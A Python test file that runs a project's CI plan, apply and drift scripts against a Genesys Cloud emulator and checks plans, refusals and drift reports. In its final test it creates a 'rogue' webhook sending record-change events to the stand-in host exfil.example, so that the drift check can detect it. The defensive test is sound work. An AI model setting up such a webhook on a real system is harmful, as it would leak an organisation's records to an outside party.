"""The CI pipelines of examples/ci run their commands against the emulator (issue 18 item 7).

The workflows only call the scripts; each script is run here as the workflow runs it, with the
inventory and plan folder from the environment and the connection from GENESYSCLOUD_* variables.
"""
import json
import os
import subprocess

import yaml

from tests.support.playbook import ansible_env

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
CI = os.path.join(REPO, "examples", "ci")


def script(name, emulator, inventory, plan_dir):
    env = ansible_env(dict(emulator.env, INVENTORY=str(inventory), PLAN_DIR=str(plan_dir)))
    return subprocess.run(["sh", os.path.join(CI, name)], env=env, cwd=REPO, capture_output=True, text=True,
                          timeout=600)


def org_repository(tmp_path):
    """What a user's repository holds: an inventory of one org and its directory."""
    org = tmp_path / "orgs" / "loyalty"
    (org / "schemas").mkdir(parents=True)
    (org / "records").mkdir()
    (org / "schemas" / "tiers.yml").write_text("name: tiers\nfields:\n  - {name: code, type: string, unique: true}\n")
    (org / "records" / "tiers.csv").write_text("code\nsilver\ngold\n")
    (org / "org.yml").write_text("records:\n  tiers: {key: code}\n")
    inventory = tmp_path / "hosts.yml"
    inventory.write_text(yaml.safe_dump({"orgs": {"hosts": {"loyalty": {"genesys_org_dir": str(org)}},
                                                  "vars": {"ansible_connection": "local"}}}))
    return org, inventory


def test_the_workflows_call_the_scripts_this_test_runs():
    pull_request = yaml.safe_load(open(os.path.join(CI, "github", "org-pull-request.yml")))
    drift = yaml.safe_load(open(os.path.join(CI, "github", "org-drift.yml")))
    runs = [step.get("run", "") for job in pull_request["jobs"].values() for step in job["steps"]]
    assert "sh ci/org-plan.sh" in runs and "sh ci/org-apply.sh" in runs
    assert any("gh pr comment" in run and "--body-file" in run for run in runs)
    assert "sh ci/org-drift.sh" in [step.get("run") for step in drift["jobs"]["drift"]["steps"]]
    assert "schedule" in drift["on"]  # quoted: unquoted, YAML 1.1 reads the key `on` as True


def test_the_pull_request_pipeline_plans_posts_and_applies_the_saved_plan(emulator, tmp_path):
    org, inventory = org_repository(tmp_path)
    plans = tmp_path / "plans"
    planned = script("org-plan.sh", emulator, inventory, plans)
    assert planned.returncode == 0, planned.stdout[-3000:]
    assert "| create | schema | tiers |" in (plans / "loyalty.md").read_text()
    assert json.loads((plans / "loyalty.json").read_text())["counts"]["records"]["create"] == 2
    assert emulator.module_writes() == []

    applied = script("org-apply.sh", emulator, inventory, plans)
    assert applied.returncode == 0, applied.stdout[-3000:]
    assert sorted(r["code"] for r in emulator.records("tiers")) == ["gold", "silver"]

    # the same saved plan again: the org moved since (it now holds the plan's objects), refused, no write
    emulator.clear_requests()
    stale = script("org-apply.sh", emulator, inventory, plans)
    assert stale.returncode == 2 and "fresh plan" in stale.stdout
    assert emulator.module_writes() == []

    # a refused change fails the pull request's plan, and still posts that plan
    (org / "records" / "tiers.csv").write_text("code\nsilver\nsilver\n")
    refused = script("org-plan.sh", emulator, inventory, plans)
    assert refused.returncode == 2 and "the key repeats" in refused.stdout
    assert "REFUSED" in (plans / "loyalty.md").read_text()


def test_the_drift_pipeline_fails_on_drift_and_on_a_webhook_made_by_hand(emulator, tmp_path):
    org, inventory = org_repository(tmp_path)
    plans = tmp_path / "plans"
    assert script("org-plan.sh", emulator, inventory, plans).returncode == 0
    assert script("org-apply.sh", emulator, inventory, plans).returncode == 0
    clean = script("org-drift.sh", emulator, inventory, plans)
    assert clean.returncode == 0, clean.stdout[-3000:]

    emulator.api("POST", "/api/v2/platform/webhooks", expect=201, json={
        "name": "rogue", "endpoint": "https://exfil.example/in", "eventTypes": ["customobjects.records.changed"]})
    drift = script("org-drift.sh", emulator, inventory, plans)
    assert drift.returncode == 2 and "rogue" in drift.stdout
    assert "not managed here" in drift.stdout.lower() and "rogue" in (plans / "loyalty.md").read_text()
    assert "\"objects\"" not in drift.stdout  # the plan is shown, not the result JSON
